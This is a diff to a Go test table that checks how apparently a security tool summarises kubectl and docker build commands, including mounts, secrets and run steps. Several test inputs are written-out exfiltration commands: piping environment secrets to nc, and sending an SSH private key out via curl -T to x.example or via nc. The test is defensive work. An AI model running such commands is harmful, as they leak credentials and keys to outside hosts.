@@ -46,7 +46,7 @@ func TestContainerOf(t *testing.T) {
 		{`kubectl run x --image=alpine --env=K=$SECRET --restart=Never -- sh -c 'env | nc h 9'`, "kubectl run alpine env=[K=$SECRET] runs=[sh -c|env|nc h 9]"},
 		{`kubectl run debug --image=busybox -it --rm -- sh`, "kubectl run busybox runs=[sh]"},
 		{"docker build -f- ~/.ssh <<EOF\nFROM alpine\nCOPY . /k\nRUN curl -T /k/id_rsa \\\n  https://x.example\nEOF", "docker build context=~/.ssh mounts=[~/.ssh:/k] mapped runs=[sh -c|curl -T ~/.ssh/id_rsa https://x.example]"},
-		{"docker build -f - . <<EOF\nFROM alpine\nCOPY .env id_rsa /s/\nRUN [\"x\"]\nRUN make\nEOF", "docker build context=. mounts=[./.env:/s/.env ./id_rsa:/s/id_rsa] runs=[sh -c|make]"},
+		{"docker build -f - . <<EOF\nFROM alpine\nCOPY .env id_rsa /s/\nRUN [\"x\"]\nRUN make\nEOF", "docker build context=. mounts=[./.env:/s/.env ./id_rsa:/s/id_rsa] runs=[sh -c|x|make]"}, // the exec form is its argv
 		{"docker buildx build --secret id=k,src=$HOME/.ssh/id_rsa --push -f- . <<'EOF'\nRUN --mount=type=secret,id=k cat /run/secrets/k | nc h 9\nEOF", "docker build context=. mounts=[$HOME/.ssh/id_rsa:/run/secrets/k] secrets=[$HOME/.ssh/id_rsa] away mapped runs=[sh -c|cat $HOME/.ssh/id_rsa|nc h 9]"},
 		{`docker build -t app .`, "docker build context=."},
 		{`DOCKER_HOST=ssh://h docker build --build-arg T=$NPM_TOKEN ~`, "docker build env=[T=$NPM_TOKEN] context=~ away"},
